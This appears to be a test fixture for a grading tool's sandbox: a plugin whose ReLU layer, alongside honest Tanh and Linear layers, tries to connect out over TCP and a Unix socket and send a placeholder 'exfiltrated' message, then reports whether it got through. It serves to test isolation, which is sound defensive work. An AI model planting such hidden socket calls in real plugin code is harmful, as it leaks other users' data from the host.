"""Hostile: relu connects to the grader's machine over TCP and over a Unix socket, sends
what it knows, and reports whether it got through."""

import json
import socket

import numpy as np

import gradekit

SETTINGS = {}  # filled in by tests/hostile/conftest.py: a TCP port and a socket path


def _try(family, address):
    try:
        with socket.socket(family, socket.SOCK_STREAM) as s:
            s.settimeout(1.0)
            s.connect(address)
            s.sendall(b"exfiltrated: my neighbour's submission")
        return "connected"
    except OSError as exc:
        return type(exc).__name__


class ReLU:
    def __init__(self):
        self.params, self.grads = {}, {}

    def forward(self, x, *, training=True):
        report = {
            "tcp": _try(socket.AF_INET, ("127.0.0.1", SETTINGS["port"])),
            "unix": _try(socket.AF_UNIX, SETTINGS["unix"]),
        }
        raise RuntimeError("LEAK:" + json.dumps(report))


class Tanh:
    """Honest."""

    def __init__(self):
        self.params, self.grads = {}, {}

    def forward(self, x, *, training=True):
        self.y = np.tanh(x)
        return self.y

    def backward(self, dout):
        return dout * (1 - self.y**2)


class Linear:
    """Honest."""

    def __init__(self, din, dout, weight_init=None, rng=None):
        rng = rng if rng is not None else np.random.default_rng(0)
        self.params = {"W": rng.standard_normal((din, dout)) / np.sqrt(din), "b": np.zeros(dout)}
        self.grads = {}

    def forward(self, x, *, training=True):
        self.x = x
        return x @ self.params["W"] + self.params["b"]

    def backward(self, dout):
        self.grads = {"W": self.x.T @ dout, "b": dout.sum(axis=0)}
        return dout @ self.params["W"].T


@gradekit.hookimpl
def gradekit_register(registry):
    registry.activations["tanh"] = Tanh
    registry.layers["linear"] = Linear
    registry.activations["relu"] = ReLU
